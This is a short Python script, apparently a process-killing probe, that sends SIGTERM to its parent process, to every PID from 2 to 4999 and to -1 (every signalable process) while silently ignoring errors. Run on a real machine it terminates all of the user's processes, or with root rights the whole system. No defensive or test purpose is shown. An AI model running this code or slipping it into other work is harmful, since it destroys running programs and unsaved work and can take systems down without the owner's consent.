"""Sends signals to every process that it can name."""

import os, signal
me = os.getpid()
for pid in [os.getppid(), *range(2, 5000), -1]:
    if pid not in (me, 0):
        try:
            os.kill(pid, signal.SIGTERM)
        except OSError:
            pass
